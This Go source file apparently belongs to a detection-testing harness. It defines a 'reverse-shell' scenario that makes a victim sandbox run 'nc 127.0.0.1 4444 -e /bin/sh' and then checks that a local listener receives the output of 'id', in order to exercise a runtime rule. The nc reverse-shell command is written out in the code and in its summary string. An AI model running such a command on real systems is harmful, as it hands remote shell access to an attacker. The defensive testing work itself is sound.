package simulate

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// listenerAddr is the attacker's listener for the reverse shell, inside
// the victim's network.
const listenerAddr = "127.0.0.1:4444"

func reverseShell() *Scenario {
	return &Scenario{
		ID:      "reverse-shell",
		Summary: "connects a shell to the attacker's listener (nc HOST PORT -e /bin/sh); the attacker runs id through it",
		Rules:   []string{"runtime.reverse-shell"},
		Victim:  VictimSpec{Name: "reverse-shell"},
		Run: func(ctx context.Context, s *Session) error {
			l, err := s.Victim.Listen(listenerAddr)
			if err != nil {
				return err
			}
			defer l.Close()
			got := make(chan string, 1)
			go func() {
				c, err := l.Accept()
				if err != nil {
					got <- "accept: " + err.Error()
					return
				}
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(10 * time.Second))
				fmt.Fprint(c, "/bin/id\nexit\n")
				out, _ := io.ReadAll(io.LimitReader(c, 1<<16))
				got <- string(out)
			}()
			s.Step("runtime.reverse-shell")
			host, port, _ := net.SplitHostPort(listenerAddr)
			if _, err := s.Exec(ctx, "/bin/nc", host, port, "-e", "/bin/sh"); err != nil {
				return err
			}
			select {
			case out := <-got:
				s.Logf("  the attacker's listener got: %q", out)
				return errIf(strings.Contains(out, "uid="), "the reverse shell did not answer the attacker: %q", out)
			case <-time.After(10 * time.Second):
				return fmt.Errorf("the reverse shell never connected to %s", listenerAddr)
			case <-ctx.Done():
				return ctx.Err()
			}
		},
	}
}
